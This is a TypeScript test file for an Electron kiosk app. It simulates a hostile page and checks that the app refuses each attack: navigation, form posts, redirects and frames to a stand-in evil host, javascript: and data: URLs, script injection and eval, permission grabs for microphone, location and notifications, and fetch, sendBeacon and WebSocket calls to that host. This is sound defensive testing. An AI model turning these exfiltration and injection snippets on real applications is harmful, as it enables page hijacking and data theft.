import { describe, expect, it } from 'vitest';
import { attackedApp } from './attacked-app.ts';

// A hostile page, or somebody at its keyboard, against the built program as it is installed, over the stand-in for electron
// in a real Chromium. What only Electron itself decides is in the stand-in's README.

const { app, page, evil, attack, harm } = attackedApp();

describe('the page cannot leave', () => {
  describe('attack: the page leaves by a navigation', () => {
    it('by navigation', async () => {
      await attack((url) => location.assign(url), evil().url);
      await expect.poll(() => app().stderr).toContain('"navigation refused","kind":"will-navigate"');
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: the page leaves by a form', () => {
    it('by a form', async () => {
      await attack((url) => {
        const form = document.createElement('form');
        Object.assign(form, { id: 'deed', action: url, method: 'post' });
        document.body.append(form);
        form.submit();
      }, evil().url);
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: the page leaves by a redirect', () => {
    it('by a redirect', async () => {
      expect(await app().do({ do: 'tries', happening: 'will-redirect', url: evil().url })).toBe(false);
      await expect.poll(() => app().stderr).toContain('"navigation refused","kind":"will-redirect"');
    });
  });

  describe('attack: the page opens another window', () => {
    it.each(['https://evil.test/', 'about:blank', 'app://gatebooth/index.html'])(
      'by window.open of %s',
      async (url) => {
        await attack((address) => void window.open(address), url);
        expect(await app().do({ do: 'tries', happening: 'window-open', url })).toBe(false);
        await expect.poll(harm).toEqual([]);
      },
    );
  });

  describe('attack: the page leaves by a javascript: address', () => {
    it('by a javascript: URL', async () => {
      await attack(() => {
        const link = document.createElement('a');
        link.id = 'deed';
        link.href = 'javascript:void(document.title="taken over")';
        document.body.append(link);
        link.click();
        location.href = link.href;
      }, null);
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: the page leaves by a data: address, or frames one', () => {
    it('by a data: URL, as a page or in a frame', async () => {
      await attack((url) => {
        const frame = document.createElement('iframe');
        frame.src = url;
        document.body.append(frame);
        location.href = url;
      }, `data:text/html,<img src="${evil().url}/data">`);
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: the page frames another site', () => {
    it('by a frame with another site', async () => {
      await attack((url) => {
        const frame = document.createElement('iframe');
        frame.src = url;
        document.body.append(frame);
      }, evil().url);
      expect(await app().do({ do: 'tries', happening: 'will-frame-navigate', url: evil().url })).toBe(false);
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: a file or a link is dropped on the page', () => {
    it('by a file or a link that is dropped on it', async () => {
      const prevented = await page().evaluate(() =>
        ['dragover', 'drop', 'dragstart', 'contextmenu'].map(
          (happening) =>
            !document.body.dispatchEvent(new Event(happening, { bubbles: true, cancelable: true })),
        ),
      );
      expect(prevented).toEqual([true, true, true, true]);
    });
  });
});

describe('no permission is given', () => {
  const errorOfMedia = (constraints: MediaStreamConstraints): Promise<string> =>
    page().evaluate(
      (wanted) =>
        navigator.mediaDevices.getUserMedia(wanted).then(
          (stream) => {
            for (const track of stream.getTracks()) track.stop();
            return 'granted';
          },
          (error: DOMException) => error.name,
        ),
      constraints,
    );

  describe('attack: the page listens in by the microphone', () => {
    it('for the microphone, alone or with the camera', async () => {
      expect(await errorOfMedia({ audio: true })).toBe('NotAllowedError');
      expect(await errorOfMedia({ audio: true, video: true })).toBe('NotAllowedError');
      expect(await errorOfMedia({ video: true })).toBe('granted');
    });
  });

  describe('attack: the page asks where the booth stands', () => {
    it('for the place', async () => {
      const code = await page().evaluate(
        () =>
          new Promise((resolve) => {
            navigator.geolocation.getCurrentPosition(
              () => resolve('granted'),
              (error) => resolve(error.code),
            );
          }),
      );
      expect(code).toBe(1);
    });
  });

  describe('attack: the page shows notifications', () => {
    it('for notifications', async () => {
      expect(await page().evaluate(() => Notification.requestPermission())).toBe('denied');
    });
  });

  describe('attack: another origin, or a frame, looks through the camera', () => {
    it('for the camera to another origin, or to a frame', async () => {
      const ours = { isMainFrame: true, requestingUrl: 'app://gatebooth/index.html', mediaTypes: ['video'] };
      const asks = (details: object) => app().do({ do: 'asks-permission', permission: 'media', details });
      expect(await asks(ours)).toBe(true);
      for (const change of [
        { requestingUrl: evil().url },
        { requestingUrl: 'app://gatebooth.evil.test/' },
        { securityOrigin: evil().url },
        { isMainFrame: false },
      ])
        expect(await asks({ ...ours, ...change })).toBe(false);
    });
  });
});

describe('the policy', () => {
  describe('attack: foreign text runs as code in the page', () => {
    it('lets no inline script, handler or eval run', async () => {
      await attack(async () => {
        const script = document.createElement('script');
        script.id = 'deed';
        script.append('document.title = "taken over"');
        document.body.append(script);
        const image = document.createElement('img');
        try {
          image.setAttribute('onerror', 'document.title = "taken over"');
        } catch {
          // Refused aloud.
        }
        await new Promise((failed) => {
          image.addEventListener('error', failed);
          image.src = 'missing.png';
          document.body.append(image);
        });
        image.remove();
        await new Promise<void>((done) => {
          // In a task of the page's own: what the debugger itself evaluates is exempt from the policy.
          setTimeout(() => {
            try {
              document.title = window.eval('"taken over"') as string;
            } finally {
              done();
            }
          });
        });
      }, null);
      expect(await harm()).toEqual([]);
    });
  });

  describe('attack: the page fetches, or sends, by the web’s usual ways', () => {
    it('lets nothing be fetched from anywhere, nor sent there', async () => {
      const outcome = await page().evaluate(async (url) => {
        const fetched = await fetch(url, { mode: 'no-cors' }).then(
          () => 'reached',
          () => 'refused',
        );
        navigator.sendBeacon(`${url}/beacon`, 'x');
        const made = (
          [
            ['script', { src: `${url}/script.js` }],
            ['img', { src: `${url}/image.png` }],
            ['link', { rel: 'stylesheet', href: `${url}/style.css` }],
            ['link', { rel: 'prefetch', href: `${url}/prefetch` }],
          ] as const
        ).map(([tag, attributes]) => {
          const element = document.createElement(tag);
          try {
            Object.assign(element, attributes);
          } catch {
            // An address that is no script of the page's own is refused aloud.
          }
          return element;
        });
        document.body.append(...made);
        const ended = await new Promise<string>((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'));
          socket.addEventListener('open', () => resolve('open'));
          socket.addEventListener('error', () => resolve('refused'));
        });
        for (const element of made) element.remove();
        return [fetched, ended];
      }, evil().url);
      expect(outcome).toEqual(['refused', 'refused']);
      expect(await harm()).toEqual([]);
    });
  });
});

describe('a page that crashes', () => {
  describe('attack: the page is made to crash', () => {
    it('comes back by itself, as it was', async () => {
      const before = page();
      before.goto('chrome://crash').catch(() => undefined);
      await expect.poll(() => page() === before).toBe(false);
      await expect.poll(harm).toEqual([]);
      expect(app().stderr).toContain('"the page is reloaded","happening":"render-process-gone"');
    });
  });
});
